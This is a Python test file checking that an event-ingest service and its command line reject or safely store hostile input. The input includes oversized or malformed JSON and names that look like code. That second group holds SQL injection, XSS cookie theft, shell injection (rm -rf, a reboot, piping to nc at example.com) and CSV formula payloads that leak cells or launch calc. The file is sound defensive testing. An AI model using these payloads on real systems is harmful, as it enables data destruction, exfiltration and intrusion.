"""Hostile input through the whole engine (IngestService, and the faultsim command).

Each hostile piece sits in a file between two valid events. It gets its specific rejection (code,
line and column in the reason, kept in quarantine with its source) or it is stored exactly as
given; the valid events around it are counted with exact totals; memory stays bounded. The
parser-level cases are in test_parsing.py, the JSON grammar in test_json_grammar.py, the window
in tests/ui/test_plain_text.py.
"""
import csv
import io
import itertools
import json
from decimal import Decimal

import pytest

from faultsim_desktop.cli import main
from faultsim_desktop.core.parsing import PREFIX_CHARS
from faultsim_desktop.core.service import safe_cell

from benchmarks.hostile import GIB, MIB, PeakRSS, SyntheticNDJSON

BEFORE = b'{"client": "before", "amount": "10.25"}'
AFTER = b'{"client": "after", "amount": "-0.10", "currency": "EUR"}'
AROUND = {("before", None): (1, Decimal("10.25")), ("after", "EUR"): (1, Decimal("-0.10"))}
# Resident memory may grow by this much at most while a hostile file goes through (the SQLite
# page cache and the writer's bounded queue included); the largest input here is 50 MB.
RSS_BUDGET = 32 * MIB


def totals(svc):
    return {(r.client, r.currency): (r.count, r.total) for r in svc.stats()}


def write(path, *parts):
    """Write bytes, or iterables of bytes (big inputs are written piece by piece)."""
    with open(path, "wb") as f:
        for part in parts:
            for piece in ([part] if isinstance(part, bytes) else part):
                f.write(piece)
    return path


def run(capsys, *argv):
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


# one hostile piece between two valid events

STRING_HEAD = b'{"client": "big", "amount": 1, "note": "'
STRING_BYTES = 50_000_000


def _string_50_mb():
    yield STRING_HEAD
    yield from itertools.repeat(b"x" * 1_000_000, STRING_BYTES // 1_000_000)
    yield b'"}'


HOSTILE = [  # id, the line (bytes or pieces), code, (line, column) of the problem, message
    # a top-level array lists events, so the depth counts from its element: column 2 + 64
    ("nesting_100000_arrays", b"[" * 100_000 + b"]" * 100_000, "too_deep", (2, 66),
     "nesting is deeper than 64 levels"),
    ("nesting_100000_objects", b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "too_deep",
     (2, 321), "nesting is deeper than 64 levels"),
    ("string_50_mb", _string_50_mb, "too_large", (2, 1),
     f"the event is {len(STRING_HEAD) + STRING_BYTES + 2:,} bytes; the limit is 1,048,576 "
     "bytes (1 MiB)"),
    ("integer_million_digits", b'{"client": "m", "amount": ' + b"7" * 1_000_000 + b"}",
     "number_too_long", (2, 27), "a number with 1000000 digits is too long (the limit is 100)"),
    ("amount_text_million_digits", b'{"client": "m", "amount": "' + b"9" * 1_000_000 + b'"}',
     "bad_amount", (2, 1), 'in field "amount" has more than 100 digits'),
    ("keys_100000_the_same", b"{" + b",".join([b'"k": 0'] * 100_000) + b"}", "duplicate_key",
     (2, 9), 'the key "k" appears twice in one object'),
    ("invalid_utf8", b'{"client": "b\xff", "amount": 2}', "invalid_utf8", (2, 14),
     f"invalid UTF-8 at byte {len(BEFORE) + 1 + 13} (save the file as UTF-8)"),
    ("lone_surrogate_escape", b'{"client": "\\ud800", "amount": 1}', "unpaired_surrogate",
     (2, 13), "a lone surrogate (\\ud800-\\udfff without its pair) cannot be stored as UTF-8"),
    ("lone_surrogate_bytes", b'{"client": "lone \xed\xa0\x80", "amount": 1}',
     "unpaired_surrogate", (2, 18),
     f"a lone surrogate at byte {len(BEFORE) + 1 + 17} cannot be stored as UTF-8"),
    ("raw_nul_in_a_string", b'{"client": "a\x00b", "amount": 1}', "invalid_json", (2, 14),
     "a raw NUL character is not allowed in a string (write \\u0000)"),
    ("nul_outside_strings", b"\x00\x00\x00", "invalid_json", (2, 1),
     "U+0000 (NUL) is not allowed here: JSON allows only space, tab, CR and LF between tokens"),
    ("byte_order_mark_mid_file", b'\xef\xbb\xbf{"client": "b", "amount": 1}', "invalid_json",
     (2, 1), "a byte order mark (U+FEFF) is allowed only at the very start of the input"),
    ("no_break_space_as_whitespace", '{"client": "b",\u00a0"amount": 1}'.encode(),
     "invalid_json", (2, 16), "U+00A0 (no-break space) is not allowed here"),
    ("nan", b'{"client": "x", "amount": NaN}', "non_finite_number", (2, 27),
     "NaN is not JSON: write a number or null"),
]


@pytest.mark.parametrize("case", HOSTILE, ids=[c[0] for c in HOSTILE])
def test_a_hostile_line_gets_its_rejection_and_the_rest_goes_through(db, open_service, tmp_path,
                                                                    case):
    service = open_service(db)  # on SQLite, then on PostgreSQL
    _, line, code, (eline, ecol), message = case
    path = write(tmp_path / "hostile.ndjson", BEFORE + b"\n", line() if callable(line) else line,
                 b"\n" + AFTER + b"\n")
    with PeakRSS() as rss:
        summary = service.ingest_file(path)
    assert summary.as_dict() == {"received": 3, "accepted": 2, "duplicates": 0, "rejected": 1,
                                 "failed": 0, "pending": 0}
    assert totals(service) == AROUND
    (entry,) = service.quarantine()
    assert (entry.code, entry.source, entry.line) == (code, str(path), 2)
    assert entry.reason.startswith(f"line {eline}, column {ecol}: ")
    assert message in entry.reason
    if callable(line):  # over the limit: the first 64 KiB are kept
        assert entry.raw == (STRING_HEAD + b"x" * (PREFIX_CHARS - len(STRING_HEAD))).decode()
    elif case[0] == "nesting_100000_arrays":
        assert entry.raw == line[1:-1].decode()  # the element of the top-level array
    else:
        try:
            assert entry.raw == line.decode("utf-8")
        except UnicodeDecodeError:
            assert entry.raw == line  # kept exactly, invalid bytes included
    log = service.recent_log()
    assert [(r.outcome, r.line) for r in log if r.outcome == "rejected"] == [("rejected", 2)]
    assert rss.growth < RSS_BUDGET, f"memory grew by {rss.growth / MIB:.0f} MiB"


def test_an_event_with_100000_keys_is_stored_whole(service, tmp_path):
    keys = b",".join(b'"%x":%d' % (i, i % 10) for i in range(100_000))
    line = b'{"client": "wide", "amount": "0.01", ' + keys + b"}"
    assert len(line) < MIB
    path = write(tmp_path / "wide.ndjson", BEFORE + b"\n" + line + b"\n" + AFTER + b"\n")
    assert service.ingest_file(path).accepted == 3
    assert totals(service) == {**AROUND, ("wide", None): (1, Decimal("0.01"))}
    (row,) = [r for r in service.recent_log() if r.client == "wide"]
    stored = service.event(row.event_id)
    assert stored["raw"] == line.decode() and len(json.loads(stored["raw"])) == 100_002


def test_one_field_spelled_50000_ways_keeps_its_warnings_short(service):
    forms = [(c, c.upper(), c + "_", c.upper() + "_", c + "-", c.upper() + "-", c + " ",
              c.upper() + " ") for c in "amount"]
    spellings = ["".join(p) for p in itertools.islice(itertools.product(*forms), 50_000)]
    event = {"client": "spelled", **{s: i + 1 for i, s in enumerate(spellings)}}
    text = json.dumps(event)
    assert len(text) < MIB
    assert service.submit_text(text).wait().accepted == 1
    (row,) = service.recent_log()
    stored = service.event(row.event_id)
    assert stored["amount"] == "1"  # the first spelling, "amount", is the one used
    warnings = json.loads(stored["warnings"])
    assert len(warnings) == 12 and len(stored["warnings"]) < 2000
    assert warnings[1] == 'fields "amount" and "amounT" mean the same; used "amount"'
    assert warnings[-1] == ("49,989 more fields repeat fields already used; the first spelling "
                            "of each was used")


def test_bom_crlf_and_mixed_line_endings_end_to_end(service, tmp_path):
    data = (b"\xef\xbb\xbf" + BEFORE + b"\r\n"
            + b'{"client": "crlf", "amount": 1}\r\n'
            + b"\r\n"
            + b'{"client": "cr", "amount": 2}\r'
            + b'{"client": "lf", "amount": 3}\n'
            + b'{"client": "broken" "amount": 4}\r\n'
            + AFTER + b"\r")
    path = write(tmp_path / "endings.ndjson", data)
    assert service.ingest_file(path).as_dict() == {
        "received": 6, "accepted": 5, "duplicates": 0, "rejected": 1, "failed": 0, "pending": 0}
    assert totals(service) == {**AROUND, ("crlf", None): (1, Decimal(1)),
                               ("cr", None): (1, Decimal(2)), ("lf", None): (1, Decimal(3))}
    (entry,) = service.quarantine()
    assert entry.line == 6 and entry.reason == "line 6, column 21: expected ',' or '}'"
    assert entry.raw == '{"client": "broken" "amount": 4}'
    lines = sorted(r.line for r in service.recent_log())
    assert lines == [1, 2, 4, 5, 6, 7]  # a line break is \r\n, \r or \n; the BOM is not text


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_utf16_file_is_rejected_whole_with_a_message_that_says_so(service, tmp_path,
                                                                     encoding):
    text = (BEFORE + b"\n" + AFTER + b"\n").decode()
    path = write(tmp_path / "wide.json", text.encode(encoding))
    assert service.ingest_file(path).as_dict() == {
        "received": 1, "accepted": 0, "duplicates": 0, "rejected": 1, "failed": 0, "pending": 0}
    (entry,) = service.quarantine()
    assert entry.code == "utf16" and entry.source == str(path)
    assert entry.reason.startswith("line 1, column 1: the input is UTF-16 (")
    assert entry.reason.endswith("); save it as UTF-8")
    assert entry.raw == text.encode(encoding)  # nothing lost: fixed, it goes through
    assert service.resubmit_quarantined(entry.id, entry.raw.decode(encoding)).accepted == 2
    assert totals(service) == AROUND and service.quarantine() == []


# names and notes that look like code: stored and shown exactly, as plain text

NAMES = [
    "'); DROP TABLE events;--",
    "Robert'); DELETE FROM aggregates WHERE ('1'='1",
    "<b>x</b>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(document.cookie)</script>",
    "<qt><font color=red>rich</font> <a href='file:///etc/passwd'>text</a></qt>",
    "$(rm -rf ~)",
    "`reboot`; ls | nc example.com 1",
    "%s %n %x %(name)s {0} {client!r} ${HOME}",
    "abc\u202edcba.exe",
    "\u202e\u2066isolate\u2069 \u200f\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "\U0001F600 \U0001F1E8\U0001F1ED \U0001F468\u200d\U0001F469\u200d\U0001F467",
    "nul\x00byte",
    "bell\x07 and escape \x1b[31mred\x1b[0m",
    "back\\slash \"quoted\"",
]


def _named_events():
    return "".join(json.dumps({"client": name, "amount": f"-{i}.50", "note": name,
                               "idempotency_key": name}, ensure_ascii=False) + "\n"
                   for i, name in enumerate(NAMES))


def test_names_that_look_like_code_round_trip_exactly(db, open_service):
    """stats(), recent_log(), event() and both exports give back exactly what was sent (on
    SQLite and on PostgreSQL, whose text columns cannot hold NUL as such)."""
    service = open_service(db)
    assert service.submit_text(_named_events()).wait().accepted == len(NAMES)
    want = {(name, None): (1, Decimal(f"-{i}.50")) for i, name in enumerate(NAMES)}
    assert totals(service) == want
    assert service.stats() == service.stats_from_events()
    log = service.recent_log()
    assert sorted(r.client for r in log) == sorted(NAMES)
    for r in log:
        stored = service.event(r.event_id)
        assert stored["client"] == stored["idempotency_key"] == r.client
        assert json.loads(stored["raw"])["note"] == r.client

    out = io.StringIO()
    assert service.export_events(out, "ndjson") == len(NAMES)
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [(r["client"], r["idempotency_key"], json.loads(r["raw"])["note"]) for r in rows] \
        == [(n, n, n) for n in NAMES]

    out = io.StringIO()
    service.export_events(out, "csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [(r["client"], r["idempotency_key"], r["amount"]) for r in rows] == [
        (n, n, f"-{i}.50") for i, n in enumerate(NAMES)]  # none starts with a formula sign


@pytest.mark.parametrize("backend", ["sqlite"])  # the command line reads the service's SQLite file
def test_names_that_look_like_code_through_the_command_line(service, db_path, capsys):
    """``--json`` and exports carry the exact text. The terminal table shows printable text as
    it is and writes control and format characters (NUL, ESC, BEL, the right-to-left override)
    as escapes, so a name can neither drive the terminal nor reorder what is shown."""
    service.submit_text(_named_events()).wait()
    service.close()

    _, out, _ = run(capsys, "stats", "--db", db_path, "--json")
    assert sorted(r["client"] for r in json.loads(out)) == sorted(NAMES)
    _, out, _ = run(capsys, "log", "--db", db_path, "--json")
    assert sorted(json.loads(line)["client"] for line in out.splitlines()) == sorted(NAMES)
    _, out, _ = run(capsys, "export", "--db", db_path, "--format", "ndjson")
    assert [json.loads(line)["client"] for line in out.splitlines()] == NAMES
    _, out, _ = run(capsys, "export", "--db", db_path, "--format", "csv")
    assert [r["client"] for r in csv.DictReader(io.StringIO(out))] == NAMES

    _, out, _ = run(capsys, "stats", "--db", db_path)
    for name in NAMES:
        shown = "".join(c if c.isprintable() else repr(c)[1:-1] for c in name)
        assert shown in out
    assert not any(c in out for c in "\x00\x07\x1b\u202e\u2066\u2069\u200f")
    assert "nul\\x00byte" in out and "\\x1b[31mred" in out and "abc\\u202edcba.exe" in out


# CSV export: spreadsheet formulas are neutralized

FORMULAS = [
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\x00")


@pytest.mark.parametrize("backend", ["sqlite"])  # the command line reads the service's SQLite file
def test_csv_export_neutralizes_formulas_and_keeps_negative_amounts_numbers(service, db_path,
                                                                            capsys):
    """OWASP's CSV injection guidance (and ASVS 5.0, 1.2.10): a cell starting with = + - @,
    tab, carriage return or NUL gets a leading apostrophe, so a spreadsheet shows it as text
    and never evaluates it; the user sees the apostrophe before the text. Amounts are plain
    decimal numbers, negative ones included ("-12.50" is data, not a formula), so totals in a
    spreadsheet still add up. The NDJSON export and ``--json`` keep the exact text."""
    events = "".join(json.dumps({"client": f, "amount": f"-{i + 1}2.50", "idempotency_key": f,
                                 "note": f}) + "\n" for i, f in enumerate(FORMULAS))
    events += json.dumps({"client": "parens", "amount": "(5.00)"}) + "\n"
    assert service.submit_text(events).wait().accepted == len(FORMULAS) + 1
    for i, source in enumerate(("\t=1+1", "\r=1+1", "\x00=1+1", "=source", "-1+1", "@source")):
        text = '{"client": "from a source", "amount": %d}' % i  # the API takes any source name
        assert service.submit_text(text, source=source).wait().accepted == 1

    out = io.StringIO()
    service.export_events(out, "csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    for row in rows:
        for column, cell in row.items():
            if cell.startswith(FORMULA_START):
                assert column == "amount" and Decimal(cell) < 0, (column, cell)
    by_amount = {r["amount"]: r for r in rows}
    for i, f in enumerate(FORMULAS):
        row = by_amount[f"-{i + 1}2.50"]
        assert row["client"] == row["idempotency_key"] == "'" + f
    assert by_amount["-5.00"]["client"] == "parens"
    assert sorted(r["source"] for r in rows if r["client"] == "from a source") == sorted(
        ["'\t=1+1", "'\r=1+1", "'\x00=1+1", "'=source", "'-1+1", "'@source"])

    out = io.StringIO()
    service.export_stats_csv(out)
    stats = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert {r["client"]: r["total"] for r in stats if r["client"] != "from a source"} == {
        **{"'" + f: f"-{i + 1}2.50" for i, f in enumerate(FORMULAS)}, "parens": "-5.00"}
    service.close()
    _, out, _ = run(capsys, "stats", "--db", db_path, "--csv")
    assert out.replace("\r\n", "\n") == _stats_csv(db_path).replace("\r\n", "\n")
    _, out, _ = run(capsys, "export", "--db", db_path, "--format", "ndjson")
    assert set(FORMULAS) <= {json.loads(line)["client"] for line in out.splitlines()}


def _stats_csv(db_path):
    from faultsim_desktop.core.service import IngestService

    with IngestService(db_path, workers=0) as svc:
        out = io.StringIO()
        svc.export_stats_csv(out)
    return out.getvalue()


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("\x00=1", "'\x00=1"), ("-12.50", "-12.50"), ("-7", "-7"),
    ("-1e3", "'-1e3"), ("a=1", "a=1"), (" =1", " =1"), ("", ""), (None, ""), (5, 5),
    (b"=x", "'=x"),
])
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


# a file of every hostile piece through `faultsim ingest` (worker processes parse it)


def test_the_command_line_ingests_a_file_of_every_hostile_piece(tmp_path, capsys):
    path = tmp_path / "all.ndjson"
    parts = [BEFORE + b"\n"]
    for _, line, *_ in HOSTILE:
        parts += [line() if callable(line) else [line], [b"\n"]]
    write(path, *parts, AFTER + b"\n")
    db = tmp_path / "cli.db"
    with PeakRSS(children=True) as rss:
        code, out, _ = run(capsys, "ingest", path, "--db", db, "--json", "--workers", "2")
    assert code == 0
    assert json.loads(out) == {"received": len(HOSTILE) + 2, "accepted": 2, "duplicates": 0,
                               "rejected": len(HOSTILE), "failed": 0, "pending": 0}
    _, out, _ = run(capsys, "stats", "--db", db, "--json")
    assert {(r["client"], r["currency"]): (r["count"], Decimal(r["total"]))
            for r in json.loads(out)} == AROUND
    _, out, _ = run(capsys, "quarantine", "list", "--db", db, "--json")
    got = [(e["line"], e["code"], e["reason"].split(": ", 1)[0]) for e in json.loads(out)]
    assert got == [(2 + i, code, f"line {2 + i}, column {col}")
                   for i, (_, _, code, (_, col), _) in enumerate(HOSTILE)]
    assert rss.growth < RSS_BUDGET, f"memory grew by {rss.growth / MIB:.0f} MiB"
    # a worker holds a chunk at a time: a fresh interpreter and the core, not the 53 MB file
    assert 0 < rss.child_peak < 100 * MIB, f"a worker peaked at {rss.child_peak / MIB:.0f} MiB"


# a gibibyte, streamed


@pytest.mark.parametrize("backend", ["sqlite"])  # the memory budget counts SQLite's page cache
def test_a_gibibyte_streams_through_with_flat_memory_and_exact_counts(service):
    """≥ 1 GiB generated while it is read (no file): ordinary messy events, valid events just
    under the 1 MiB limit and their retries, 48 MiB lines, and the hostile lines of the issue.
    The counts and totals equal the generator's truth; memory grows by far less than the input
    (the SQLite page cache is up to 64 MiB of it)."""
    stream = SyntheticNDJSON(GIB, small=2000, giant_bytes=48 * MIB, seed=3)
    with PeakRSS() as rss:
        summary = service.ingest_stream(stream, "<synthetic>")
    assert stream.bytes_out >= GIB
    assert {k: getattr(summary, k) for k in ("accepted", "duplicates", "rejected", "failed")} \
        == {"accepted": stream.expected["accepted"], "duplicates": stream.expected["duplicates"],
            "rejected": stream.expected["rejected"], "failed": 0}
    assert totals(service) == stream.expected_totals()
    entries = service.quarantine(limit=100_000)
    seen = {}
    for e in entries:
        seen[e.code] = seen.get(e.code, 0) + e.times_seen
        assert e.line >= 1 and e.reason.startswith(f"line {e.line}, column ")
        assert len(e.raw) <= 1_000_100  # a too-large line keeps a 64 KiB prefix
    assert seen == dict(stream.codes)
    assert all(len(e.raw) <= PREFIX_CHARS for e in entries if e.code == "too_large")
    assert rss.growth < 200 * MIB, f"memory grew by {rss.growth / MIB:.0f} MiB"
